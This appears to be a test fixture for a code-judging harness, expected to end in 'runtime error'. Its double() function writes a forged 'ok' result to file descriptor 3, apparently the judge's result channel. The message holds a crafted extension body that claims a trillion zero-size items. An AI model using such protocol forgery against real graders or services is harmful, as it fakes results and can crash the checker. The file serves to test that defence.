# verdict: runtime error
# It claims a trillion items of no size.
import msgpack, os, struct
body = struct.pack("<IIQ", 0, 1, 1 << 39) + b"<U0"
header = msgpack.packb(["ok", msgpack.ExtType(1, body), "", 0.0])
def double(values):
    os.write(3, struct.pack("<IIQ", len(header), 1, 0) + header)
    return values
